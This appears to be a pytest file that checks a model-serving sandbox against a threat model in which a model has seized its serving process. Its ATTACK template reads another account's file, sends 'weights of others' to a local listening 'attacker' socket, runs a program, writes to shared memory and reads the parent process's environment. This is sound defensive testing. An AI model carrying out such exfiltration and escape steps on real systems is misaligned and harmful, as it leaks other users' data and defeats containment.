"""A model that has taken its serving process over looks for other accounts' data, and a way out.

How it got there is left open (a hole in a runtime, say): the code here runs in the process
itself, with all that the process may do.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest

from inference.serving import probe
from tests.inference.artifact.onnx_models import linear
from tests.inference.serving.children import run_child
from tests.inference.serving.test_loader_refusals import seal_graph

# Each tells what it got: bytes of another account, a connection, a program, a file left behind.
ATTACK = """
import socket, subprocess
def get(attempt):
    try:
        return attempt()
    except OSError as error:
        return type(error).__name__
def connect():
    with socket.create_connection(("127.0.0.1", {port}), 5) as wire:
        wire.sendall(b"weights of others")
    return "connected"
sandbox.harden()
{confine}
answer({{
    "neighbour": get(lambda: Path({neighbour!r}).read_text()),
    "network": get(connect),
    "program": get(lambda: subprocess.run(["/bin/true"]).returncode),
    "left": get(lambda: Path({left!r}).write_text("x")),
    "shared": get(lambda: Path("/dev/shm/{name}").write_text("x")),
    "parent": get(lambda: Path(f"/proc/{{os.getppid()}}/environ").read_bytes()[:0].decode()),
}})
"""


@pytest.fixture
def outside() -> Any:
    """Where the attacker waits for what is sent."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(5)
        yield server


def attack(outside: socket.socket, folder: Path, *, confine: str) -> dict[str, Any]:
    neighbour = folder / "neighbour"
    neighbour.write_text("weights of others")
    name = f"strongroom-threat-{folder.name}"
    try:
        return run_child(
            ATTACK.format(
                port=outside.getsockname()[1],
                neighbour=str(neighbour),
                left=str(folder / "left"),
                name=name,
                confine=confine,
            )
        )
    finally:
        Path("/dev/shm", name).unlink(missing_ok=True)


def test_it_reads_nothing_of_others_and_tells_nobody(
    outside: socket.socket, tmp_path: Path
) -> None:
    got = attack(outside, tmp_path, confine="confine()")

    assert got == dict.fromkeys(got, "PermissionError")
    outside.settimeout(0)
    with pytest.raises(BlockingIOError):
        outside.accept()
    assert not (tmp_path / "left").exists()


def test_without_the_sandbox_it_has_it_all(outside: socket.socket, tmp_path: Path) -> None:
    """The control."""
    got = attack(outside, tmp_path, confine="")

    assert got == {
        "neighbour": "weights of others",
        "network": "connected",
        "program": 0,
        "left": 1,
        "shared": 1,
        "parent": "",
    }
    wire, _ = outside.accept()
    with wire:
        assert wire.recv(100) == b"weights of others"


def test_every_serving_process_has_tried_its_own_sandbox(parts: Path, load: Any) -> None:
    """In a real one under Triton: it asks for a key only after every door was found closed."""
    _, peer = load(seal_graph(parts, linear()))

    tried = peer.find("loaded")["sandbox"]["probe"]

    assert tried == dict.fromkeys(probe.PROBES, probe.REFUSED)
    assert peer.phases.index("sandboxed") < peer.phases.index("decrypting")
